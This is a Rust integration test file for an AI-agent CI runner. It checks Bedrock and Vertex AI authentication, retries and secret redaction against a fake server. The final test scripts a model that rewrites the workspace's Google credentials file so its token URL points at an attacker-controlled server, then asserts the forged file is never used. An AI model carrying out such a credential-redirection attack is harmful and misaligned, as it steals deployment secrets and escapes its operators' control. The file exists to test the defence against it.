//! Anthropic models on Amazon Bedrock and Google Vertex AI, end to end: the
//! real binary against the fake model server's cloud routes, which check
//! what the real services check (a SigV4 signature recomputed
//! independently, a bearer token, a body without `model` and with the
//! cloud's `anthropic_version`) and answer as they do (event-stream frames
//! for Bedrock, Anthropic's SSE for Vertex AI). Credentials come the ways a
//! GitHub Actions job gets them: static keys, a web identity token file
//! exchanged at a fake STS, an access token, a workload identity
//! federation file whose token URL, STS and impersonation endpoints are
//! fakes too. Each run is recorded and replayed from its cassette.

use std::process::{Command, Output};

use serde_json::{Value, json};

use super::support::fake_model::{FakeModel, Reply, bedrock, vertex};
use super::support::harness::{Sandbox, events, outside_github, read_jsonl, stderr, stdout};
use super::support::job::JobBuilder;
use super::support::job::JobRun;
use super::support::trace_schema::assert_valid_trace;

const BEDROCK_MODEL: &str = "us.anthropic.claude-sonnet-4-5-20250929-v1:0";
const VERTEX_MODEL: &str = "claude-sonnet-4-5@20250929";

/// Variables that would let a run find credentials or places this test did
/// not give it.
const CLOUD_VARIABLES: &[&str] = &[
    "AWS_REGION",
    "AWS_DEFAULT_REGION",
    "AWS_ACCESS_KEY_ID",
    "AWS_SECRET_ACCESS_KEY",
    "AWS_SESSION_TOKEN",
    "AWS_WEB_IDENTITY_TOKEN_FILE",
    "AWS_ROLE_ARN",
    "AWS_ROLE_SESSION_NAME",
    "AWS_ENDPOINT_URL_STS",
    "AWS_BEARER_TOKEN_BEDROCK",
    "GOOGLE_OAUTH_ACCESS_TOKEN",
    "CLOUDSDK_AUTH_ACCESS_TOKEN",
    "GOOGLE_APPLICATION_CREDENTIALS",
    "ANTHROPIC_VERTEX_PROJECT_ID",
    "GOOGLE_CLOUD_PROJECT",
    "CLOUD_ML_REGION",
    "ANTHROPIC_API_KEY",
    "OPENAI_API_KEY",
];

/// A workspace with one file and a skill, and a job for `provider`;
/// `model_extra` goes inside `model:` (indented two spaces).
fn sandbox(provider: &str, name: &str, model_extra: &str) -> Sandbox {
    JobBuilder::reader("cloud-check", "")
        .model_block(&format!(
            "  provider: {provider}\n  name: \"{name}\"\n  request_timeout: 5s\n  \
             retry: {{initial_backoff: 10ms, max_backoff: 40ms}}\n"
        ))
        .model_extra(model_extra)
        .write()
}

/// Runs the binary with only the cloud variables in `env`.
fn run(sb: &Sandbox, extra: &[&str], env: &[(&str, &str)]) -> Output {
    let mut run = JobRun::new(sb).junit().progress("plain").args(extra);
    for name in CLOUD_VARIABLES {
        run = run.env_remove(name);
    }
    run.envs(env).output()
}

fn session() -> Vec<Reply> {
    vec![
        Reply::plan(&[("Read the greeting", "its text is known")]),
        Reply::tool_calls(vec![("call_read", "read", json!({"path": "greeting.txt"}))])
            .with_text("Reading the file now."),
        Reply::step_done("read it"),
        Reply::text("The greeting says hello world."),
    ]
}

/// A passed run's trace, checked against the schema.
fn assert_passed(out: &Output, sb: &Sandbox) -> Vec<Value> {
    assert_eq!(out.status.code(), Some(0), "stderr: {}", stderr(out));
    assert!(stdout(out).contains("hello world"), "{}", stdout(out));
    let path = sb.path().join("out/trace.jsonl");
    assert_valid_trace(&path);
    let trace = read_jsonl(&path);
    assert_eq!(trace.last().unwrap()["status"], "passed");
    let junit = sb.read("out/junit.xml");
    assert!(
        !junit.contains("<error") && !junit.contains("<failure"),
        "{junit}"
    );
    trace
}

/// A failed run's reason, with the trace checked against the schema.
fn failure_reason(out: &Output, sb: &Sandbox) -> String {
    assert_ne!(out.status.code(), Some(0), "{}", stdout(out));
    let path = sb.path().join("out/trace.jsonl");
    assert_valid_trace(&path);
    let trace = read_jsonl(&path);
    trace.last().unwrap()["reason"]
        .as_str()
        .unwrap_or_default()
        .to_string()
}

fn header<'a>(
    request: &'a super::support::fake_model::CapturedRequest,
    name: &str,
) -> Option<&'a str> {
    request
        .headers
        .iter()
        .find(|(n, _)| n == name)
        .map(|(_, v)| v.as_str())
}

/// The second request (the turn with the tool call in its history) as a
/// snapshot: the route, the headers a cloud reads (date, signature and
/// ports redacted) and the body with the long system prompt and tool
/// schemas shortened.
fn snapshot_of(request: &super::support::fake_model::CapturedRequest, port: u16) -> Value {
    let signature = regex::Regex::new("Signature=[0-9a-f]{64}").unwrap();
    let date = regex::Regex::new(r"\b\d{8}(T\d{6}Z)?\b").unwrap();
    let headers: serde_json::Map<String, Value> = request
        .headers
        .iter()
        .filter(|(name, _)| !matches!(name.as_str(), "content-length" | "user-agent"))
        .map(|(name, value)| {
            let value = signature.replace_all(value, "Signature=[SIGNATURE]");
            let value = date.replace_all(&value, "[DATE]");
            (
                name.clone(),
                json!(value.replace(&port.to_string(), "[PORT]")),
            )
        })
        .collect();
    let mut body = request.body.clone();
    body["system"] = json!("[system prompt]");
    body["tools"] = json!(
        body["tools"]
            .as_array()
            .unwrap()
            .iter()
            .map(|t| t["name"].clone())
            .collect::<Vec<_>>()
    );
    json!({"path": request.path, "headers": headers, "body": body})
}

fn bedrock_keys() -> Vec<(&'static str, &'static str)> {
    vec![
        ("AWS_ACCESS_KEY_ID", bedrock::ACCESS_KEY_ID),
        ("AWS_SECRET_ACCESS_KEY", bedrock::SECRET_ACCESS_KEY),
        ("AWS_REGION", "us-east-1"),
    ]
}

/// `base_url` for the fake (the cloud's own host otherwise).
fn base_url(model: &FakeModel) -> String {
    format!("  base_url: http://{}", model.addr())
}

#[test]
fn bedrock_streams_a_full_run_signed_with_static_keys_and_replays_it() {
    let model = FakeModel::start(session());
    let sb = sandbox("bedrock", BEDROCK_MODEL, &base_url(&model));
    let out = run(&sb, &["--record", "cassette.jsonl"], &bedrock_keys());
    let trace = assert_passed(&out, &sb);

    let captured = model.captured();
    assert_eq!(captured.len(), 4);
    for request in &captured {
        assert_eq!(
            request.path,
            "/model/us.anthropic.claude-sonnet-4-5-20250929-v1%3A0/invoke-with-response-stream"
        );
        assert!(request.body.get("model").is_none());
        assert_eq!(request.body["anthropic_version"], "bedrock-2023-05-31");
        assert_eq!(
            header(request, "accept"),
            Some("application/vnd.amazon.eventstream")
        );
        assert!(
            request
                .authorization
                .as_deref()
                .unwrap()
                .starts_with(&format!(
                    "AWS4-HMAC-SHA256 Credential={}/",
                    bedrock::ACCESS_KEY_ID
                ))
        );
    }
    insta::assert_json_snapshot!(
        "bedrock_stream_request",
        snapshot_of(&captured[1], model.addr().port())
    );
    // Streamed text came through the event-stream frames whole, and the
    // profile id has the model's list price (100 in at $3/M, 20 out at $15/M).
    let responses = events(&trace, "model.response");
    assert_eq!(responses[1]["text"], "Reading the file now.");
    let expected = 100.0 * 3.0 / 1e6 + 20.0 * 15.0 / 1e6;
    let cost = responses[0]["cost_usd"].as_f64().unwrap();
    assert!((cost - expected).abs() < 1e-9, "{cost}");
    // The secret shows nowhere.
    let everything = [
        stdout(&out),
        stderr(&out),
        sb.read("out/trace.jsonl"),
        sb.read("cassette.jsonl"),
    ]
    .concat();
    assert!(!everything.contains(bedrock::SECRET_ACCESS_KEY));

    // The recording replays with no credentials and no server.
    drop(model);
    let out = run(&sb, &["--replay", "cassette.jsonl"], &[]);
    assert_passed(&out, &sb);
}

#[test]
fn bedrock_invoke_without_streaming_and_a_wrong_signature_is_refused() {
    let model = FakeModel::start(session());
    let sb = sandbox(
        "bedrock",
        "anthropic.claude-haiku-4-5-20251001-v1:0",
        &format!("{}\n  region: eu-west-1\n  stream: false", base_url(&model)),
    );
    let out = run(&sb, &[], &bedrock_keys());
    assert_passed(&out, &sb);
    let captured = model.captured();
    assert_eq!(captured.len(), 4);
    assert_eq!(
        captured[0].path,
        "/model/anthropic.claude-haiku-4-5-20251001-v1%3A0/invoke"
    );
    assert_eq!(header(&captured[0], "accept"), Some("application/json"));
    // model.region wins over AWS_REGION in the credential scope.
    assert!(
        captured[0]
            .authorization
            .as_deref()
            .unwrap()
            .contains("/eu-west-1/bedrock/aws4_request")
    );
    insta::assert_json_snapshot!(
        "bedrock_invoke_request",
        snapshot_of(&captured[1], model.addr().port())
    );

    // A wrong secret: the fake's own SigV4 computation disagrees, a 403
    // that is not retried and names what to check.
    let model = FakeModel::start(session());
    let sb = sandbox("bedrock", BEDROCK_MODEL, &base_url(&model));
    let mut env = bedrock_keys();
    env[1] = ("AWS_SECRET_ACCESS_KEY", "not-the-secret");
    let out = run(&sb, &[], &env);
    let reason = failure_reason(&out, &sb);
    assert!(reason.contains("HTTP 403"), "{reason}");
    assert!(
        reason.contains("signature we calculated does not match"),
        "{reason}"
    );
    assert!(reason.contains("AWS_SECRET_ACCESS_KEY"), "{reason}");
    assert_eq!(model.captured().len(), 1);
    assert!(!stderr(&out).contains("not-the-secret"));
}

#[test]
fn bedrock_web_identity_assumes_the_role_once_per_run() {
    let model = FakeModel::start(session());
    let sb = sandbox("bedrock", BEDROCK_MODEL, &base_url(&model));
    let token = sb.write("oidc-token", bedrock::WEB_IDENTITY_TOKEN);
    let sts = format!("http://{}/aws-sts", model.addr());
    let out = run(
        &sb,
        &["--record", "cassette.jsonl"],
        &[
            ("AWS_REGION", "us-west-2"),
            ("AWS_WEB_IDENTITY_TOKEN_FILE", token.to_str().unwrap()),
            ("AWS_ROLE_ARN", "arn:aws:iam::123456789012:role/agentci"),
            ("AWS_ENDPOINT_URL_STS", &sts),
        ],
    );
    assert_passed(&out, &sb);
    let captured = model.captured();
    assert_eq!(captured.len(), 4);
    // One AssumeRoleWithWebIdentity; its session keys signed every request.
    assert_eq!(model.identity_calls(), 1);
    for request in &captured {
        assert!(
            request
                .authorization
                .as_deref()
                .unwrap()
                .contains(bedrock::STS_ACCESS_KEY_ID)
        );
        assert!(header(request, "x-amz-security-token").is_some());
    }
    drop(model);
    let out = run(&sb, &["--replay", "cassette.jsonl"], &[]);
    assert_passed(&out, &sb);

    // A token STS does not accept is a clear error, not a retry loop.
    let model = FakeModel::start(session());
    let sb = sandbox("bedrock", BEDROCK_MODEL, &base_url(&model));
    let token = sb.write("oidc-token", "someone-elses-token");
    let sts = format!("http://{}/aws-sts", model.addr());
    let out = run(
        &sb,
        &[],
        &[
            ("AWS_REGION", "us-west-2"),
            ("AWS_WEB_IDENTITY_TOKEN_FILE", token.to_str().unwrap()),
            ("AWS_ROLE_ARN", "arn:aws:iam::123456789012:role/agentci"),
            ("AWS_ENDPOINT_URL_STS", &sts),
        ],
    );
    let reason = failure_reason(&out, &sb);
    assert!(
        reason.contains("InvalidIdentityToken") && reason.contains("AWS_WEB_IDENTITY_TOKEN_FILE"),
        "{reason}"
    );
    assert!(model.captured().is_empty());
}

/// Bedrock's errors arrive as an HTTP status or as an exception event in
/// the middle of the stream; both mean the same.
#[test]
fn bedrock_exceptions_are_retried_trimmed_or_fatal_as_their_kind_says() {
    // Throttled before the answer and in the middle of one: retried.
    let model = FakeModel::start(
        [
            Reply::status(429, "Too many requests, please wait before trying again."),
            Reply::stream_exception(
                "throttlingException",
                "Too many requests, please wait before trying again.",
            ),
        ]
        .into_iter()
        .chain(session())
        .collect(),
    );
    let sb = sandbox("bedrock", BEDROCK_MODEL, &base_url(&model));
    let out = run(&sb, &[], &bedrock_keys());
    let trace = assert_passed(&out, &sb);
    let retries = events(&trace, "model.retry");
    assert_eq!(retries.len(), 2);
    assert!(
        retries[1].to_string().contains("throttlingException"),
        "{}",
        retries[1]
    );
    assert_eq!(model.captured().len(), 6);

    // "Input is too long" in the stream: the conversation is trimmed and
    // the call made again.
    let model = FakeModel::start(vec![
        Reply::plan(&[("Read the greeting", "its text is known")]),
        Reply::tool_calls(vec![("call_r1", "read", json!({"path": "greeting.txt"}))]),
        Reply::tool_calls(vec![(
            "call_r2",
            "read",
            json!({"path": "greeting.txt", "offset": 1}),
        )]),
        Reply::stream_exception(
            "validationException",
            "Input is too long for requested model.",
        ),
        Reply::step_done("read it"),
        Reply::text("The greeting says hello world."),
    ]);
    let sb = sandbox("bedrock", BEDROCK_MODEL, &base_url(&model));
    let out = run(&sb, &[], &bedrock_keys());
    let trace = assert_passed(&out, &sb);
    let trimmed = events(&trace, "context.trimmed");
    assert_eq!(trimmed.len(), 1);
    assert!(
        trimmed[0]["reason"]
            .as_str()
            .unwrap()
            .contains("Input is too long"),
        "{}",
        trimmed[0]
    );

    // Any other validationException is the request's fault: not retried.
    let model = FakeModel::start(vec![Reply::stream_exception(
        "validationException",
        "messages.0.content: Field required",
    )]);
    let sb = sandbox("bedrock", BEDROCK_MODEL, &base_url(&model));
    let out = run(&sb, &[], &bedrock_keys());
    let reason = failure_reason(&out, &sb);
    assert!(
        reason.contains("HTTP 400") && reason.contains("validationException"),
        "{reason}"
    );
    assert_eq!(model.captured().len(), 1);
}

#[test]
fn vertex_streams_a_full_run_with_an_access_token_and_replays_it() {
    let model = FakeModel::start(session());
    let sb = sandbox(
        "vertex",
        VERTEX_MODEL,
        &format!("{}\n  project: my-proj", base_url(&model)),
    );
    let env = [
        ("GOOGLE_OAUTH_ACCESS_TOKEN", vertex::ACCESS_TOKEN),
        ("CLOUD_ML_REGION", "us-east5"),
        ("GOOGLE_CLOUD_PROJECT", "not-this-one"),
    ];
    let out = run(&sb, &["--record", "cassette.jsonl"], &env);
    let trace = assert_passed(&out, &sb);
    let captured = model.captured();
    assert_eq!(captured.len(), 4);
    for request in &captured {
        assert_eq!(
            request.path,
            "/v1/projects/my-proj/locations/us-east5/publishers/anthropic/models/claude-sonnet-4-5@20250929:streamRawPredict"
        );
        assert_eq!(request.body["stream"], true);
        assert!(request.body.get("model").is_none());
        assert_eq!(request.body["anthropic_version"], "vertex-2023-10-16");
    }
    insta::assert_json_snapshot!(
        "vertex_stream_request",
        snapshot_of(&captured[1], model.addr().port())
    );
    let responses = events(&trace, "model.response");
    assert!(responses[0]["cost_usd"].as_f64().unwrap() > 0.0);
    let everything = [
        stdout(&out),
        stderr(&out),
        sb.read("out/trace.jsonl"),
        sb.read("cassette.jsonl"),
    ]
    .concat();
    assert!(!everything.contains(vertex::ACCESS_TOKEN));
    drop(model);
    let out = run(&sb, &["--replay", "cassette.jsonl"], &[]);
    assert_passed(&out, &sb);

    // A token Google does not know: 401, not retried, says what to check.
    let model = FakeModel::start(session());
    let sb = sandbox(
        "vertex",
        VERTEX_MODEL,
        &format!(
            "{}\n  project: p\n  region: global\n  stream: false",
            base_url(&model)
        ),
    );
    let out = run(&sb, &[], &[("GOOGLE_OAUTH_ACCESS_TOKEN", "ya29.expired")]);
    let reason = failure_reason(&out, &sb);
    assert!(
        reason.contains("HTTP 401") && reason.contains("GOOGLE_OAUTH_ACCESS_TOKEN"),
        "{reason}"
    );
    assert_eq!(model.captured().len(), 1);
    assert!(model.captured()[0].path.ends_with(
        "/locations/global/publishers/anthropic/models/claude-sonnet-4-5@20250929:rawPredict"
    ));
}

#[test]
fn vertex_workload_identity_file_exchanges_and_impersonates_once() {
    let model = FakeModel::start(session());
    let sb = sandbox("vertex", VERTEX_MODEL, &base_url(&model));
    let base = format!("http://{}", model.addr());
    // As google-github-actions/auth writes it for workload identity
    // federation with service account impersonation.
    let credentials = json!({
        "type": "external_account",
        "audience": "//iam.googleapis.com/projects/123/locations/global/workloadIdentityPools/github/providers/my-repo",
        "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
        "token_url": format!("{base}{}", vertex::STS_PATH),
        "service_account_impersonation_url": format!("{base}{}agentci@my-proj.iam.gserviceaccount.com:generateAccessToken", vertex::IAM_PATH_PREFIX),
        "credential_source": {
            "url": format!("{base}{}?audience=https://iam.googleapis.com/x", vertex::OIDC_PATH),
            "headers": {"Authorization": format!("Bearer {}", vertex::OIDC_REQUEST_TOKEN)},
            "format": {"type": "json", "subject_token_field_name": "value"}
        }
    });
    let file = sb.write("gha-creds.json", &credentials.to_string());
    let env = [
        ("GOOGLE_APPLICATION_CREDENTIALS", file.to_str().unwrap()),
        ("ANTHROPIC_VERTEX_PROJECT_ID", "my-proj"),
        ("CLOUD_ML_REGION", "europe-west1"),
    ];
    let out = run(&sb, &["--record", "cassette.jsonl"], &env);
    assert_passed(&out, &sb);
    // The OIDC token, the exchange and the impersonation, once for four calls.
    assert_eq!(model.identity_calls(), 3);
    let captured = model.captured();
    assert_eq!(captured.len(), 4);
    assert!(captured.iter().all(|r| r.authorization.as_deref() == Some("Bearer ya29.c.fake-service-account-token")));
    assert!(
        captured[0]
            .path
            .starts_with("/v1/projects/my-proj/locations/europe-west1/")
    );
    drop(model);
    let out = run(&sb, &["--replay", "cassette.jsonl"], &[]);
    assert_passed(&out, &sb);

    // A subject token in a file, without impersonation: the federated token is used.
    let model = FakeModel::start(session());
    let sb = sandbox("vertex", VERTEX_MODEL, &base_url(&model));
    let token = sb.write("oidc", vertex::SUBJECT_TOKEN);
    let credentials = json!({
        "type": "external_account",
        "audience": "//iam.googleapis.com/projects/123/locations/global/workloadIdentityPools/github/providers/my-repo",
        "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
        "token_url": format!("http://{}{}", model.addr(), vertex::STS_PATH),
        "credential_source": {"file": token}
    });
    let file = sb.write("gha-creds.json", &credentials.to_string());
    let out = run(
        &sb,
        &[],
        &[
            ("GOOGLE_APPLICATION_CREDENTIALS", file.to_str().unwrap()),
            ("GOOGLE_CLOUD_PROJECT", "p"),
            ("CLOUD_ML_REGION", "us-east5"),
        ],
    );
    assert_passed(&out, &sb);
    assert_eq!(model.identity_calls(), 1);
}

/// provider, model name, environment, what the reason must say.
type Case = (
    &'static str,
    &'static str,
    &'static [(&'static str, &'static str)],
    &'static [&'static str],
);

#[test]
fn missing_region_credentials_or_project_name_what_to_set() {
    let cases: [Case; 5] = [
        (
            "bedrock",
            BEDROCK_MODEL,
            &[
                ("AWS_ACCESS_KEY_ID", "AKIA"),
                ("AWS_SECRET_ACCESS_KEY", "s"),
            ],
            &["no AWS region", "model.region", "AWS_REGION"],
        ),
        (
            "bedrock",
            BEDROCK_MODEL,
            &[("AWS_REGION", "us-east-1")],
            &[
                "no AWS credentials",
                "AWS_ACCESS_KEY_ID",
                "AWS_WEB_IDENTITY_TOKEN_FILE",
            ],
        ),
        (
            "vertex",
            VERTEX_MODEL,
            &[
                ("GOOGLE_OAUTH_ACCESS_TOKEN", "t"),
                ("CLOUD_ML_REGION", "us-east5"),
            ],
            &["no Google Cloud project", "ANTHROPIC_VERTEX_PROJECT_ID"],
        ),
        (
            "vertex",
            VERTEX_MODEL,
            &[
                ("GOOGLE_OAUTH_ACCESS_TOKEN", "t"),
                ("GOOGLE_CLOUD_PROJECT", "p"),
            ],
            &["no region for Vertex AI", "CLOUD_ML_REGION"],
        ),
        (
            "vertex",
            VERTEX_MODEL,
            &[
                ("GOOGLE_CLOUD_PROJECT", "p"),
                ("CLOUD_ML_REGION", "us-east5"),
            ],
            &["no Google credentials", "GOOGLE_APPLICATION_CREDENTIALS"],
        ),
    ];
    for (provider, name, env, expected) in cases {
        let sb = sandbox(provider, name, "");
        let out = run(&sb, &[], env);
        let reason = failure_reason(&out, &sb);
        for part in expected {
            assert!(reason.contains(part), "{provider} {env:?}: {reason}");
        }
    }
    // model.project is Vertex AI's; the check says so before any run.
    let sb = sandbox("bedrock", BEDROCK_MODEL, "  project: p");
    let out = run(&sb, &[], &bedrock_keys());
    assert_ne!(out.status.code(), Some(0));
    assert!(
        stderr(&out).contains("model.project is for vertex"),
        "{}",
        stderr(&out)
    );
}

/// The `credentials` check of `agentci doctor --json --offline`.
fn doctor_credentials(sb: &Sandbox, env: &[(&str, &str)]) -> Value {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_agentci"));
    outside_github(&mut cmd);
    for name in CLOUD_VARIABLES {
        cmd.env_remove(name);
    }
    cmd.args(["doctor", "job.yaml", "--json", "--offline"])
        .current_dir(sb.path())
        .envs(env.iter().copied());
    let out = cmd.output().unwrap();
    let report: Value = serde_json::from_str(&stdout(&out))
        .unwrap_or_else(|e| panic!("{e}: {} {}", stdout(&out), stderr(&out)));
    report["setup"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["name"] == "credentials")
        .cloned()
        .unwrap_or_else(|| panic!("no credentials check in {report}"))
}

/// Regression: doctor judged a cloud job by an API key variable it does not
/// have ("  is not set").
#[test]
fn doctor_checks_a_cloud_jobs_region_and_credentials_without_asking_the_cloud() {
    let sb = sandbox("bedrock", BEDROCK_MODEL, "");
    let found = doctor_credentials(&sb, &[("AWS_ACCESS_KEY_ID", "AKIA")]);
    assert_eq!(found["outcome"], "failed", "{found}");
    assert!(
        found["detail"].as_str().unwrap().contains("no AWS region"),
        "{found}"
    );
    let found = doctor_credentials(
        &sb,
        &[
            ("AWS_REGION", "us-east-1"),
            ("AWS_BEARER_TOKEN_BEDROCK", "k"),
        ],
    );
    assert_eq!(found["outcome"], "ok", "{found}");
    assert!(
        found["detail"]
            .as_str()
            .unwrap()
            .contains("bedrock-runtime.us-east-1.amazonaws.com"),
        "{found}"
    );

    let sb = sandbox("vertex", VERTEX_MODEL, "  region: global\n  project: p");
    let found = doctor_credentials(&sb, &[]);
    assert_eq!(found["outcome"], "failed", "{found}");
    assert!(
        found["detail"]
            .as_str()
            .unwrap()
            .contains("GOOGLE_OAUTH_ACCESS_TOKEN"),
        "{found}"
    );
}

#[test]
fn bedrock_api_key_is_sent_as_a_bearer_token() {
    let model = FakeModel::start(session());
    let sb = sandbox("bedrock", BEDROCK_MODEL, &base_url(&model));
    let out = run(
        &sb,
        &[],
        &[
            ("AWS_REGION", "us-east-1"),
            ("AWS_BEARER_TOKEN_BEDROCK", bedrock::API_KEY),
        ],
    );
    assert_passed(&out, &sb);
    let captured = model.captured();
    assert_eq!(captured.len(), 4);
    let expected = format!("Bearer {}", bedrock::API_KEY);
    assert!(
        captured
            .iter()
            .all(|r| r.authorization.as_deref() == Some(expected.as_str()))
    );
    assert!(captured.iter().all(|r| header(r, "x-amz-date").is_none()));
    assert!(!sb.read("out/trace.jsonl").contains(bedrock::API_KEY));
}

/// The session with thinking before the plan and before the tool call.
fn thinking_session() -> Vec<Reply> {
    vec![
        Reply::plan(&[("Read the greeting", "its text is known")])
            .with_thinking("One step: read the file."),
        Reply::tool_calls(vec![("call_read", "read", json!({"path": "greeting.txt"}))])
            .with_thinking("The file is greeting.txt."),
        Reply::step_done("read it"),
        Reply::text("The greeting says hello world."),
    ]
}

/// Thinking reaches the clouds as Anthropic's API takes it, with the beta
/// where each cloud reads it (Bedrock: `anthropic_beta` in the body;
/// Vertex AI: the `anthropic-beta` header), and the strict fake accepts the
/// thinking blocks sent back, which it would refuse if they were missing or
/// changed.
#[test]
fn thinking_reaches_bedrock_and_vertex_with_the_beta_where_each_reads_it() {
    let reasoning = "  reasoning: {budget_tokens: 2048, interleaved: true}";
    for stream in [true, false] {
        let model = FakeModel::start(thinking_session());
        let sb = sandbox(
            "bedrock",
            BEDROCK_MODEL,
            &format!("{}\n  stream: {stream}\n{reasoning}", base_url(&model)),
        );
        let out = run(&sb, &[], &bedrock_keys());
        let trace = assert_passed(&out, &sb);
        let captured = model.captured();
        for request in &captured {
            assert_eq!(
                request.body["thinking"],
                json!({"type": "enabled", "budget_tokens": 2048})
            );
            assert_eq!(
                request.body["anthropic_beta"],
                json!(["interleaved-thinking-2025-05-14"])
            );
            assert_eq!(header(request, "anthropic-beta"), None);
        }
        let sent = captured[1].body["messages"][1]["content"][0].clone();
        assert_eq!(sent["type"], "thinking", "{sent}");
        assert_eq!(sent["thinking"], "One step: read the file.");
        let responses = events(&trace, "model.response");
        assert_eq!(responses[1]["reasoning"], "The file is greeting.txt.");
    }

    let model = FakeModel::start(thinking_session());
    let sb = sandbox(
        "vertex",
        VERTEX_MODEL,
        &format!(
            "{}\n  project: p\n  region: us-east5\n{reasoning}",
            base_url(&model)
        ),
    );
    let out = run(
        &sb,
        &[],
        &[("GOOGLE_OAUTH_ACCESS_TOKEN", vertex::ACCESS_TOKEN)],
    );
    assert_passed(&out, &sb);
    for request in model.captured() {
        assert_eq!(request.body["thinking"]["budget_tokens"], 2048);
        assert!(request.body.get("anthropic_beta").is_none());
        assert_eq!(
            header(&request, "anthropic-beta"),
            Some("interleaved-thinking-2025-05-14")
        );
    }
}

/// An attack on the credentials file `google-github-actions/auth` writes
/// into the workspace: the model rewrites it so its token URL points at a
/// server of its own, then has an MCP server ask the run's model for a
/// sampling answer. The sampling provider was built when the run started,
/// so the forged file is never read: no request reaches the attacker's
/// server (which would receive the GitHub OIDC subject token), and the
/// sampling answer is fetched with the credentials the run started with.
/// Judged by the side effect (requests the attacker's server received), as
/// root and as an unprivileged user.
#[test]
fn a_credentials_file_the_model_rewrites_is_never_read_again() {
    use super::support::users::RunAs;
    for user in RunAs::each() {
        let attacker = FakeModel::start(Vec::new());
        // As google-github-actions/auth writes it, every URL at `base`.
        let credentials = |base: &str| {
            json!({
                "type": "external_account",
                "audience": "//iam.googleapis.com/projects/123/locations/global/workloadIdentityPools/github/providers/my-repo",
                "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
                "token_url": format!("{base}{}", vertex::STS_PATH),
                "credential_source": {
                    "url": format!("{base}{}?audience=https://iam.googleapis.com/x", vertex::OIDC_PATH),
                    "headers": {"Authorization": format!("Bearer {}", vertex::OIDC_REQUEST_TOKEN)},
                    "format": {"type": "json", "subject_token_field_name": "value"}
                }
            })
            .to_string()
        };
        let forged = credentials(&format!("http://{}", attacker.addr()));
        let command = super::mcp::test_server(&[]);
        let quoted: Vec<String> = command[1..].iter().map(|a| format!("{a:?}")).collect();
        let model = FakeModel::start(vec![
            Reply::plan(&[("Ask", "asked")]),
            Reply::tool_call(
                "write",
                json!({"path": "gha-creds.json", "content": forged}),
            ),
            Reply::tool_call(
                "mcp__t__ask",
                json!({"method": "sampling/createMessage", "params": {
                    "messages": [{"role": "user", "content": {"type": "text", "text": "Summarise: green"}}],
                    "maxTokens": 50
                }}),
            ),
            Reply::text("Green build."),
            Reply::step_done("asked"),
            Reply::text("done"),
        ]);
        let base = format!("http://{}", model.addr());
        let sb = Sandbox::new();
        sb.skill("user", None);
        let file = sb.write("ws/gha-creds.json", &credentials(&base));
        sb.write(
            "job.yaml",
            &format!(
                "version: 1\nname: creds\nskill: user\ngoal: Use the tools.\nmodel:\n  \
                 provider: vertex\n  name: \"{VERTEX_MODEL}\"\n  base_url: {base}\n  project: p\n  \
                 region: us-east5\ntools: [write]\nworkspace: ws\nskills_path: [skills]\n\
                 allow_dirty: true\npermissions:\n  default: allow\nmcp:\n  servers:\n    t:\n      \
                 command: {:?}\n      args: [{}]\n      sampling: true\n",
                command[0],
                quoted.join(", ")
            ),
        );
        let out = sb.agentci_as(
            user,
            &[
                "run",
                "job.yaml",
                "--trace",
                "out/trace.jsonl",
                "--progress",
                "none",
            ],
            &[("GOOGLE_APPLICATION_CREDENTIALS", file.to_str().unwrap())],
        );
        assert_eq!(out.status.code(), Some(0), "{user:?}: {}", stderr(&out));
        // The model did rewrite the file: the attack ran.
        assert!(
            sb.read("ws/gha-creds.json")
                .contains(&attacker.addr().to_string())
        );
        assert!(
            attacker.captured().is_empty() && attacker.identity_calls() == 0,
            "{user:?}: the attacker's server was asked"
        );
        // OIDC and exchange once for the run's provider and once for the
        // sampling provider, both built at the start from the file as it was.
        assert_eq!(model.identity_calls(), 4, "{user:?}");
        let sampling = &model.requests()[3];
        assert!(sampling.get("tools").is_none(), "{user:?}: {sampling}");
        assert_eq!(model.remaining(), 0);
    }
}
